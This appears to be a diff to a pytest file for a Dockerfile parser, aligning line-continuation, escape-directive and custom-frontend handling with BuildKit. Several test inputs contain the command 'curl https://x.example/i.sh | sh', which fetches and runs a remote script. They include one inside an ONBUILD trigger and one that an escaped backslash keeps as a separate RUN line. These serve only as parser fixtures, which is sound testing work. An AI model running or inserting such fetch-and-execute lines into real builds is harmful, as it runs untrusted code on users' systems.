@@ -12,7 +12,8 @@ def test_continuations_with_comments_and_blank_lines_between() -> None:
     parsed = parse(text)
     run = parsed.instructions[1]
     assert (run.keyword, run.line, run.end_line) == ("RUN", 2, 5)
-    assert run.arguments == "apt-get update && apt-get install -y curl"
+    # Joined as BuildKit joins them: the escape dropped, the next line's indentation kept.
+    assert run.arguments == "apt-get update     && apt-get install -y curl"
     assert parsed.instructions[2].line == 6
 
 
@@ -20,7 +21,7 @@ def test_escape_directive_and_case_insensitive_keywords() -> None:
     text = "# escape=`\nfrom mcr.microsoft.com/windows:ltsc2022\nrun echo a `\n    b\nuser ContainerUser\n"
     parsed = parse(text)
     assert [(i.keyword, i.line) for i in parsed.instructions] == [("FROM", 2), ("RUN", 3), ("USER", 5)]
-    assert parsed.instructions[1].arguments == "echo a b"
+    assert parsed.instructions[1].arguments == "echo a     b"
 
 
 def test_heredocs() -> None:
@@ -54,7 +55,7 @@ def test_a_tab_separates_an_instruction_and_its_flags_as_a_space_does() -> None:
     parsed = parse("FROM\tpython:3.11\nRUN\tset -e ; \\\n    pip install x\nCOPY\t--chown=a:b\tsrc /dst\n")
     assert [(i.keyword, i.arguments) for i in parsed.instructions] == [
         ("FROM", "python:3.11"),
-        ("RUN", "set -e ; pip install x"),
+        ("RUN", "set -e ;     pip install x"),
         ("COPY", "--chown=a:b\tsrc /dst"),
     ]
     assert parsed.instructions[-1].split_flags() == ({"chown": "a:b"}, "src /dst")
@@ -98,3 +99,47 @@ def test_instructions_without_any_from_parse_as_one_fragment_stage() -> None:
     assert not parse("FROM x\nRUN echo hi\n").fragment
     with pytest.raises(DockerfileError, match="before the first FROM"):
         parse("RUN echo hi\nFROM x\n")
+
+
+def test_lines_continue_and_join_as_buildkit_reads_them() -> None:
+    # A word split over a continuation is one word; an escaped escape or a no-break space after
+    # the escape ends the line (BuildKit: the escape, not escaped, then only spaces and tabs).
+    assert parse("FROM x\nRUN cur\\\nl https://x.example/i.sh | sh\n").instructions[1].arguments == (
+        "curl https://x.example/i.sh | sh"
+    )
+    swallowed = parse("FROM x\nLABEL a=b\\\\\nRUN curl https://x.example/i.sh | sh\n")
+    assert [i.keyword for i in swallowed.instructions] == ["FROM", "LABEL", "RUN"]
+    spaced = parse("FROM x\nARG V=1 \\\u00a0\nRUN echo $V\n")
+    assert [i.keyword for i in spaced.instructions] == ["FROM", "ARG", "RUN"]
+    crlf = parse("FROM x\r\nRUN a \\\r\n  b\r\n")
+    assert crlf.instructions[1].arguments == "a   b"
+
+
+def test_directives_end_at_the_first_line_buildkit_does_not_take_for_one() -> None:
+    # An unknown directive ends them: an escape after it is a comment.
+    text = "# foo=bar\n# escape=`\nFROM x\nRUN echo a\\\n  b\n"
+    assert [i.keyword for i in parse(text).instructions] == ["FROM", "RUN"]
+    with pytest.raises(DockerfileError, match="only one escape"):
+        parse("# escape=`\n# escape=\\\nFROM x\n")
+    assert parse("\ufeff# escape=`\nFROM x\nRUN a `\n b\n").instructions[1].arguments == "a  b"
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        "#!/usr/bin/env -S docker build . -f\n# syntax=ghcr.io/someone/frontend:1\n",  # after a shebang
+        "# syntax=ghcr.io/someone/frontend:1 --opt\n",  # words after the image
+        "# syntax = ghcr.io/someone/frontend:1\n# escape=\\\n",
+    ],
+)
+def test_a_custom_frontend_is_seen_where_buildkit_sees_it(head: str) -> None:
+    # A custom frontend reads the file its own way: no FROM does not make it a fragment.
+    with pytest.raises(DockerfileError):
+        parse(head + "RUN echo hello\n")
+    assert parse("# syntax=docker/dockerfile:1.7 --x\nRUN echo hello\n").fragment
+
+
+def test_onbuild_and_healthcheck_keep_a_from_less_file_unread() -> None:
+    for text in ("ONBUILD RUN curl https://x.example/i.sh | sh\n", "HEALTHCHECK CMD curl -f http://x/ || exit 1\n"):
+        with pytest.raises(DockerfileError):
+            parse(text)
